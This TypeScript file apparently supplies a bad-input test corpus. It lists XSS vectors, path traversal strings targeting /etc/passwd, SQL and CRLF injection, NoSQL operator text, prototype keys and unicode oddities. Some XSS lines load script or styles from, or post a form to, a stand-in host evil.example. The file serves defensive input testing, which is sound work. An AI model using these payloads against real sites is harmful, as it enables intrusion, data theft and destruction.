// Hostile strings for the bad-input corpus. Written out here (nothing is downloaded): classic XSS
// vectors in the spirit of the OWASP XSS filter evasion cheat sheet and PortSwigger's list, plus
// unicode edge cases, path traversal, NUL bytes and the usual oddities.

export type Payload = {
  /** Short name for test titles. */
  name: string;
  /** The text as the application should see it after decoding. */
  value: string;
  /**
   * Already percent-encoded bytes to send instead of encoding `value` (for byte sequences no JS
   * string can hold: invalid UTF-8, lone surrogates on the wire).
   */
  encoded?: string;
};

const p = (name: string, value: string, encoded?: string): Payload => ({ name, value, encoded });

export const XSS: Payload[] = [
  "<script>alert(1)</script>",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<body onload=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  "<ScRiPt>alert(1)</sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "</script><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/steal"><button>Continue</button></form>',
  '<img src="x:x" onerror="alert&#40;1&#41;">',
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
  "<svg><script>alert&#40;1&#41;</script></svg>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<x onclick=alert(1)>click me</x>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
  "<script src=https://evil.example/x.js></script>",
  "<IMG SRC=javascript:alert('XSS')>",
  '<table background="javascript:alert(1)">',
  // Without "<": attribute and template breakouts, for fields that may be used as URLs or attributes.
  "javascript:alert(1)",
  '" onmouseover="alert(1)',
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is this literal text
  "${alert(1)}",
].map((value, index) => p(`xss#${index + 1}`, value));

export const UNICODE: Payload[] = [
  p("lone high surrogate", "a\ud800b", "a%ED%A0%80b"),
  p("lone low surrogate", "a\udfffb", "a%ED%BF%BFb"),
  p("truncated utf-8", "a\ufffd", "a%F0%9F"),
  p("overlong slash", "\ufffd\ufffd", "%C0%AF"),
  p("RTL override", "invoice\u202Etxt.exe"),
  p("zero-width joiners", "a\u200B\u200C\u200Db\uFEFF"),
  p("combining marks", `Z${"\u0336\u0321\u0307\u0301".repeat(60)}`),
  p("emoji", "😀🔥 prompt 👩‍👩‍👧‍👦 🇩🇪"),
  p("astral letters", "𝕏𝕐𝕫 𝔘𝔫𝔦𝔠𝔬𝔡𝔢"),
  p("fullwidth script", "＜script＞alert(1)＜/script＞"),
  p("line separators", "a\u2028b\u2029c"),
  p("homoglyph", "аdmin@ехаmple.com"),
  p("NFD", "Cafe\u0301"),
  p("10k emoji", "😀".repeat(10_000)),
];

export const TRAVERSAL: Payload[] = [
  "../../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "..\\..\\..\\windows\\win.ini",
  "/etc/passwd",
  "....//....//etc/passwd",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "..%c0%af..%c0%afetc%c0%afpasswd",
  "file:///etc/passwd",
  "\\\\evil.example\\share",
  "%252e%252e%252f",
].map((value, index) => p(`traversal#${index + 1}`, value));

export const NUL: Payload[] = [
  p("NUL", "\u0000"),
  p("NUL inside", "a\u0000b"),
  p("NUL at end", "valid\u0000"),
];

export const ONE_MB = 1024 * 1024;

export const MISC: Payload[] = [
  p("empty", ""),
  p("spaces", "   "),
  p("1 MB", "a".repeat(ONE_MB)),
  p("sql quote", "' OR '1'='1"),
  p("sql statement", '1; DROP TABLE "User";--'),
  p("format string", "%s%s%s%n%x"),
  p("CRLF header injection", "x\r\nSet-Cookie: injected=1"),
  p("operator object text", '{"$gt": ""}'),
  p("negative", "-1"),
  p("huge number", "1e309"),
  p("NaN", "NaN"),
  p("proto", "__proto__"),
  p("object text", "[object Object]"),
  p("10k characters", "A".repeat(10_000)),
  p("control characters", "\u0001\u0007\u001b[31m\u007f"),
];

export const ALL: Payload[] = [...XSS, ...UNICODE, ...TRAVERSAL, ...NUL, ...MISC];

/** A smaller mix for surfaces that only read (query strings, path segments). */
export const SAMPLE: Payload[] = [
  ...XSS.filter((_, index) => index % 4 === 0),
  ...UNICODE.filter((payload) => payload.name !== "10k emoji"),
  ...TRAVERSAL.slice(0, 5),
  ...NUL,
  ...MISC.filter((payload) => payload.name !== "1 MB"),
];

/** Percent-encodes every byte that is not unreserved (lone surrogates become U+FFFD, like browsers). */
export function percentEncode(payload: Payload | string): string {
  if (typeof payload !== "string" && payload.encoded !== undefined) return payload.encoded;
  const text = typeof payload === "string" ? payload : payload.value;
  let out = "";
  for (const byte of Buffer.from(text, "utf8")) {
    const char = String.fromCharCode(byte);
    out += /[A-Za-z0-9\-._~]/.test(char) ? char : `%${byte.toString(16).toUpperCase().padStart(2, "0")}`;
  }
  return out;
}

/** Whether a reflected copy of this payload in HTML would be markup (so it must never appear raw). */
export const isMarkup = (payload: Payload) => payload.value.includes("<");
